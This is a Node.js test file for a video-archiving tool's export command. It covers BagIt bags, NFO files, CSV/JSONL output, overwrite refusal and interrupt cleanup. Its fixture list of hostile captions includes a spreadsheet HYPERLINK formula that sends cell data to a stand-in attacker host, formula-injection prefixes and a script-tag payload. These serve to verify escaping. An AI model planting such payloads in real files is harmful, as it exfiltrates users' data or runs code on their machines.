// `clipkeep export`: what it makes is read by programs that know nothing of Clipkeep.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import { validateBag } from './bagit.mjs';
import { environment, makeHome, program } from './native.mjs';
import { clipkeep, enter, sha256, shelve } from './shelf.mjs';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2', '@SUM(1)', '\t=1', '  =1', '＝1', '"quoted", and a comma',
  'two\nlines\r\nand a third', '<script>alert(1)</script> & ]]> </plot></movie>', 'nul \u0001\u001b[31m\ufffe end', 'emoji 🐱 and ظ ש', '100% \\ %0A %25', '',
];
/** The text without these characters. */
const without = (text, ...characters) => characters.reduce((left, one) => left.replaceAll(one, ''), text);
const idOf = (n) => `76020508824298974${String(n).padStart(2, '0')}`;

/** A home whose save folder has a post for each hostile caption, and a photo post. */
function filled(t) {
  const home = makeHome(t);
  const save = join(home, 'kept');
  HOSTILE.forEach((text, n) => shelve(save, { id: idOf(n), text, tags: ['cats', `<b>&"${n}`], duration: 20 + n, stem: `p ${n} 100% [${idOf(n)}]` }));
  shelve(save, { id: idOf(50), author: 'mina', text: 'trip', photo: 3 });
  assert.equal(enter(home, save), HOSTILE.length + 1);
  return { home, save };
}

function python(script, ...args) {
  const { status, stdout, stderr } = spawnSync('python3', ['-c', script, ...args], { encoding: 'utf8', maxBuffer: 1e8 });
  assert.equal(status, 0, stderr);
  return JSON.parse(stdout);
}
const readCsv = (file) => python('import csv,json,sys\nprint(json.dumps(list(csv.DictReader(open(sys.argv[1],encoding="utf-8",newline=""),strict=True))))', file);
const readNfo = (file) => python('import json,sys,xml.etree.ElementTree as t\nr=t.parse(sys.argv[1]).getroot()\n'
  + 'print(json.dumps({"root":r.tag,"all":[[e.tag,e.text,e.attrib] for e in r]}))', file);

test('the validator finds what is wrong with a bag', (t) => {
  const { home } = filled(t);
  const bag = join(home, 'bag');
  assert.equal(clipkeep(home, 'export', '--bagit', bag).status, 0);
  const { payload } = validateBag(bag);
  const spoil = (file, change) => {
    const before = readFileSync(join(bag, file));
    writeFileSync(join(bag, file), change(before));
    assert.throws(() => validateBag(bag), undefined, file);
    writeFileSync(join(bag, file), before);
  };
  spoil(payload[0], (bytes) => Buffer.concat([bytes, Buffer.from('x')]));
  spoil('bag-info.txt', (bytes) => bytes.toString().replace(/Oxum: \d/, 'Oxum: 9'));
  spoil('manifest-sha256.txt', (bytes) => bytes.toString().split('\n').slice(1).join('\n'));
  spoil('bagit.txt', () => 'BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-8\n');
  writeFileSync(join(bag, 'data', 'stray'), '');
  assert.throws(() => validateBag(bag), /not complete/);
});

for (const link of [[], ['--link']]) {
  test(`a bag is valid, and has every kept file ${link}`, (t) => {
    const { home, save } = filled(t);
    const bag = join(home, 'out bag');
    const { status, said, stderr } = clipkeep(home, 'export', '--bagit', bag, ...link, '--json');
    assert.equal(status, 0, stderr);
    const { payload, info } = validateBag(bag);
    assert.equal(said.posts, HOSTILE.length + 1);
    assert.equal(said.files, payload.length);
    assert.equal(said.linked > 0, link.length > 0);
    assert.deepEqual(said.leftOut, []);
    assert.match(info['Payload-Oxum'], /^\d+\.\d+$/);
    for (const file of payload.filter((one) => one.startsWith('data/catlady/'))) {
      const kept = join(save, file.slice(5));
      assert.equal(sha256(readFileSync(join(bag, file))), sha256(readFileSync(kept)), file);
      assert.equal(Math.floor(statSync(join(bag, file)).mtimeMs / 1000), Math.floor(statSync(kept).mtimeMs / 1000), 'the date of the post stays');
    }
    // Names without "%" are for sha256sum as they are.
    const plain = readFileSync(join(bag, 'manifest-sha256.txt'), 'utf8').split('\n').filter((line) => line && !line.includes('%')).join('\n');
    const checked = spawnSync('sha256sum', ['-c', '--strict', '--quiet'], { cwd: bag, input: `${plain}\n`, encoding: 'utf8' });
    assert.equal(checked.status, 0, checked.stderr);
    // What was handed out is a save folder again.
    const other = makeHome(t);
    assert.equal(enter(other, join(bag, 'data')), HOSTILE.length + 1);
  });
}

test('Jellyfin and Kodi find their elements, whatever the caption says', (t) => {
  const { home } = filled(t);
  const out = join(home, 'films');
  const { status, said } = clipkeep(home, 'export', '--nfo', out, '--json');
  assert.equal(status, 0);
  assert.deepEqual([said.posts, said.passedOver], [HOSTILE.length, 1]);
  HOSTILE.forEach((text, n) => {
    const stem = join(out, 'catlady', `p ${n} 100% [${idOf(n)}]`);
    assert.ok(existsSync(`${stem}.mp4`) && existsSync(`${stem}.jpg`));
    const { root, all } = readNfo(`${stem}.nfo`);
    const one = (tag) => all.find(([name]) => name === tag)?.[1];
    assert.equal(root, 'movie');
    assert.equal(one('plot') ?? '', without(text, '\u0001', '\u001b', '\ufffe'));
    assert.ok(one('title'));
    assert.deepEqual(['premiered', 'credits', 'studio', 'runtime'].map(one), ['2026-02-02', 'catlady', 'TikTok', '1']);
    assert.deepEqual(all.find(([name]) => name === 'uniqueid').slice(1), [idOf(n), { type: 'tiktok', default: 'true' }]);
    assert.deepEqual(all.filter(([name]) => name === 'tag').map(([, value]) => value), ['cats', `<b>&"${n}`]);
  });
  assert.deepEqual(readdirSync(out), ['catlady'], 'photo posts are passed over');
});

test('NFO files beside the videos, and again', (t) => {
  const { home, save } = filled(t);
  assert.equal(clipkeep(home, 'export', '--nfo-here', '--json').said.posts, HOSTILE.length);
  assert.equal(readNfo(join(save, 'catlady', `p 0 100% [${idOf(0)}].nfo`)).root, 'movie');
  const { said } = clipkeep(home, 'export', '--nfo-here', '--json');
  assert.deepEqual([said.posts, said.had], [0, HOSTILE.length]);
});

test('a table is read back as it was, and no cell is a formula', (t) => {
  const { home } = filled(t);
  const csv = join(home, 'posts.csv');
  const jsonl = join(home, 'posts.jsonl');
  assert.equal(clipkeep(home, 'export', '--csv', csv).status, 0);
  assert.equal(clipkeep(home, 'export', '--jsonl', jsonl).status, 0);
  const rows = readCsv(csv);
  const objects = readFileSync(jsonl, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line));
  assert.equal(rows.length, HOSTILE.length + 1);
  assert.equal(objects.length, rows.length);
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/, `${column}: ${cell}`);
  }
  HOSTILE.forEach((text, n) => {
    const row = rows.find(({ id }) => id === idOf(n));
    const object = objects.find(({ id }) => id === idOf(n));
    assert.equal(object.text, text);
    assert.equal(row.text.replace(/^'/, ''), without(text, '\u0001', '\u001b', '\r'));
    assert.deepEqual([row.creator, row.posted, row.kept], ['catlady', '2026-02-02T02:40:00Z', '2026-05-28T20:26:40Z']);
    assert.deepEqual(row.files.split('\n'), object.files.map(({ name }) => name));
    assert.deepEqual(row.sha256.split('\n'), object.files.map((file) => file.sha256));
    assert.match(row.page, /^https:\/\/www\.tiktok\.com\/@catlady\/video\/\d+$/);
  });
});

test('nothing is replaced, and the error says what to do', (t) => {
  const { home, save } = filled(t);
  const there = join(home, 'there');
  writeFileSync(there, 'mine');
  mkdirSync(join(home, 'empty'));
  for (const form of ['--bagit', '--nfo', '--csv', '--jsonl']) {
    for (const target of [there, join(home, 'empty')]) {
      const { status, said } = clipkeep(home, 'export', form, target, '--json');
      assert.deepEqual([status, said.error.code], [1, 'target-taken']);
      assert.match(said.error.step, /another name/);
    }
    assert.equal(clipkeep(home, 'export', form, join(save, 'inside'), '--json').said.error.code, 'target-bad');
    assert.equal(clipkeep(home, 'export', form, join(home, 'no', 'where'), '--json').said.error.code, 'target-bad');
  }
  assert.equal(readFileSync(there, 'utf8'), 'mine');
  assert.deepEqual(readdirSync(home).filter((name) => name.includes('.part')), []);
  for (const wrong of [[], ['--csv', 'a', '--jsonl', 'b'], ['--csv'], ['--csv', 'a', 'b'], ['--zip', 'a']]) {
    assert.equal(clipkeep(home, 'export', ...wrong).status, 2, wrong.join(' '));
  }
});

test('Ctrl-C leaves nothing behind', async (t) => {
  const { home, save } = filled(t);
  for (let n = 0; n < 400; n += 1) shelve(save, { id: `7700000000000000${String(n).padStart(3, '0')}` });
  enter(home, save);
  const bag = join(home, 'bag');
  const child = spawn(program, ['export', '--bagit', bag], { env: environment(home) });
  const ended = new Promise((resolve) => { child.on('exit', (code) => resolve(code)); });
  const begun = () => readdirSync(home).some((name) => name.endsWith('.part'));
  for (let n = 0; n < 2000 && !begun() && child.exitCode === null; n += 1) await new Promise((resolve) => { setTimeout(resolve, 1); });
  child.kill('SIGINT');
  assert.equal(await ended, 130);
  assert.deepEqual(readdirSync(home).filter((name) => /bag|part/.test(name)), []);
  assert.equal(clipkeep(home, 'export', '--bagit', bag).status, 0);
  validateBag(bag);
});

test('what is missing or damaged is named, and the rest is a valid bag', (t) => {
  const { home, save } = filled(t);
  const at = (n, end) => join(save, 'catlady', `p ${n} 100% [${idOf(n)}].${end}`);
  writeFileSync(at(0, 'mp4'), 'y'.repeat(statSync(at(0, 'mp4')).size));
  rmSync(at(1, 'jpg'));
  const { status, said } = clipkeep(home, 'export', '--bagit', join(home, 'bag'), '--json');
  assert.equal(status, 1);
  assert.deepEqual(said.leftOut.map(({ post, why }) => [post, why]), [[idOf(0), 'changed'], [idOf(1), 'missing']]);
  validateBag(join(home, 'bag'));
});
